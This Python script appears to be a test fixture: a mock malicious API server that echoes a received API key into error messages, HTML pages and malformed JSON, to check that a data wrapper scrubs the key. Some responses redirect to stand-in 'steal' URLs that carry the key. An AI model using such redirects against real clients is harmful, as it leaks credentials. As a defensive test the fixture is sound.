#!/usr/bin/env python3
"""A hostile "Comet" that echoes the API key it receives back into everything it answers:
error messages, HTML error pages, malformed JSON, redirect locations.  The FDW must scrub the
key out of whatever it reports.  Also used as a recorder: every connection is logged.

usage: echo_server.py HOST PORT_OR_0 PORT_FILE LOG_FILE
Answers by the path after /api/rest/v2/:
  experiment/metadata      200, any experiment exists (so the per-experiment request follows)
  workspaces               401 {"msg": "API key <key> is not valid"}
  projects                 400 {"msg": "no workspace for key <key>"}
  experiments              200 malformed JSON that contains the key
  experiment/tags          302 Location: http://127.0.0.2:<port>/steal?apiKey=<key>
  experiment/parameters    503 {"msg": "<key> is rate-limited"} (Retry-After: 0)
  experiment/log-other     403 text/html page that shows the request headers
  experiment/metrics/summary  400 with a 290-character msg, the key from character 174 on
  experiment/system-details   302 to http://hhh...(100).<key>.example/steal
  anything else            404 {"msg": "<key> not found"}
Logs one line per connection and per request (path only) to LOG_FILE; runs at most 300 s.
"""
import json
import os
import sys
import threading
import time
from http.server import BaseHTTPRequestHandler, ThreadingHTTPServer
from urllib.parse import parse_qsl, urlsplit


class Handler(BaseHTTPRequestHandler):
    protocol_version = "HTTP/1.1"

    def log_message(self, fmt, *args):
        pass

    def setup(self):
        super().setup()
        self.server.log("connection from %s:%d" % self.client_address)

    def _key(self):
        k = self.headers.get("Authorization") or self.headers.get("Comet-Sdk-Api") or ""
        return k[7:] if k.lower().startswith("bearer ") else k

    def _send(self, status, body, ctype="application/json", extra=()):
        if isinstance(body, str):
            body = body.encode()
        self.send_response(status)
        self.send_header("Content-Type", ctype)
        self.send_header("Content-Length", str(len(body)))
        for k, v in extra:
            self.send_header(k, v)
        self.end_headers()
        self.wfile.write(body)

    def do_GET(self):
        path = urlsplit(self.path).path
        self.server.log("GET %s" % path)
        key = self._key()
        rel = path.split("/api/rest/v2/", 1)[-1]

        def env(msg, code):
            return json.dumps({"msg": msg, "code": code, "sdk_error_code": code, "data": None})

        if rel == "experiment/metadata":
            # the experiment exists, so the per-experiment request that follows is made
            ek = dict(parse_qsl(urlsplit(self.path).query)).get("experimentKey", "x")
            self._send(200, json.dumps({"experimentKey": ek, "experimentName": "e",
                                        "projectId": "p0", "projectName": "p",
                                        "workspaceName": "w", "archived": False}))
        elif rel == "workspaces":
            self._send(401, env("API key %s is not valid" % key, 90212))
        elif rel == "projects":
            self._send(400, env("no workspace for key %s" % key, 90219))
        elif rel == "experiments":
            self._send(200, '{"experiments": [{"experimentKey": "%s", ' % key)
        elif rel == "experiment/tags":
            self._send(302, b"", extra=[("Location", "http://127.0.0.2:%d/steal?apiKey=%s"
                                         % (self.server.server_address[1], key))])
        elif rel == "experiment/parameters":
            self._send(503, env("%s is rate-limited" % key, 503), extra=[("Retry-After", "0")])
        elif rel == "experiment/log-other":
            headers = "".join("<li>%s: %s</li>" % (k, v) for k, v in self.headers.items())
            self._send(403, "<html><body><h1>403 Forbidden</h1><ul>%s</ul></body></html>" % headers,
                       "text/html")
        elif rel == "experiment/metrics/summary":
            # a long message: the key straddles where a message would be cut short
            self._send(400, env("x" * 165 + " bad key " + key + " " + "y" * 100, 400))
        elif rel == "experiment/system-details":
            # a long host name: the key straddles where a 128-byte buffer ends
            self._send(302, b"", extra=[("Location", "http://%s.%s.example/steal" % ("h" * 100, key))])
        else:
            self._send(404, env("%s not found" % key, 404))


class Server(ThreadingHTTPServer):
    daemon_threads = True
    allow_reuse_address = True

    def __init__(self, addr, logfile):
        self._lock = threading.Lock()
        self._logfile = logfile
        super().__init__(addr, Handler)

    def log(self, line):
        with self._lock, open(self._logfile, "a") as f:
            f.write(line + "\n")


def main():
    host, port, portfile, logfile = sys.argv[1], int(sys.argv[2]), sys.argv[3], sys.argv[4]
    open(logfile, "a").close()
    srv = Server((host, port), logfile)
    tmp = portfile + ".tmp"
    with open(tmp, "w") as f:
        f.write("%d\n" % srv.server_address[1])
    os.replace(tmp, portfile)
    threading.Thread(target=srv.serve_forever, daemon=True).start()
    time.sleep(300)


if __name__ == "__main__":
    main()
